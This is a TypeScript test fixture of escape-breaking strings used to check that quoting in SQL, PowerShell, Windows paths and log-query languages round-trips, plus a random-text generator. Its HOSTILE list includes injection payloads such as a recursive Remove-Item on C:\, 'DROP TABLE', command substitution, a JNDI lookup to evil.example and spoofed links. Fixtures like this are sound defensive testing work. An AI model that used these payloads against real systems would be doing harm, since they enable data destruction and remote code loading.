/** Texts that break one quoting or another; each must come back whole from the language it was written into. */
export const HOSTILE: readonly string[] = [
  '',
  ' ',
  'C:\\Users\\Public\\up.exe -s',
  'C:\\temp\\new\\roots\\u0041',
  'C:\\',
  '\\\\evil.example\\share\\a.exe',
  '\\\\?\\UNC\\evil\\share',
  '\\??\\C:\\Windows\\x.sys',
  '%SystemRoot%\\System32\\x.dll',
  '"C:\\Program Files\\a b\\c.exe" /d "e"',
  "it's",
  "'; Remove-Item C:\\ -Recurse; '",
  '\u2018; whoami; \u2019',
  '\u201a\u201b\u201c\u201d\u201e',
  "' OR '1'='1",
  "'; DROP TABLE registry; --",
  '" or host.id : * or "',
  '" | LIMIT 1 | KEEP x "',
  '" and true == true //',
  '"""',
  "'''",
  '$(calc)`whoami`',
  '$env:TEMP\\x.exe',
  '$\u007bjndi:ldap://evil.example/a}',
  '{{7*7}} %n %s',
  '*',
  '?',
  'a*b?c',
  '%_%',
  'or and not',
  '(a) {b} <c> : d',
  '<!channel> <@U123> <https://evil.example|AWS>',
  '[U+202E] [:] [.]',
  'line\r\nbreak\ttab',
  '\u0007\u001b[2J',
  'exe\u202egpj.scr',
  'run\u200bdll32\ufeff',
  '\u2028\u2029\u0085',
  '注册表',
  '\u{1f4a9}\u{e0041}',
  '-rf',
  '--key',
  '@file',
  '#comment',
  '\\',
  '\\\\',
  'a\\',
  '\\"',
  "\\'",
];

/** Texts that no query can hold. */
export const UNWRITABLE: readonly (readonly [text: string, problem: string])[] = [
  ['a\0b', 'nul'],
  ['\ud800', 'lone-surrogate'],
  ['x\udc00y', 'lone-surrogate'],
  ['a'.repeat(1025), 'too-long'],
];

const PIECES = [
  ...HOSTILE,
  ...Array.from({ length: 95 }, (_, at) => String.fromCharCode(32 + at)),
  ...Array.from({ length: 33 }, (_, at) => String.fromCharCode(at)),
];

/** A text of any Unicode, most of it unpleasant; one in a hundred cannot be written. */
export function randomText(random: () => number): string {
  const count = Math.floor(random() * 12);
  let text = '';
  for (let at = 0; at < count; at++) {
    const kind = random();
    if (kind < 0.6) text += PIECES[Math.floor(random() * PIECES.length)];
    else if (kind < 0.8) text += String.fromCodePoint(Math.floor(random() * 0xd800));
    else if (kind < 0.99) text += String.fromCodePoint(0xe000 + Math.floor(random() * (0x110000 - 0xe000)));
    else text += String.fromCharCode(0xd800 + Math.floor(random() * 0x800));
  }
  return text.slice(0, 1100);
}
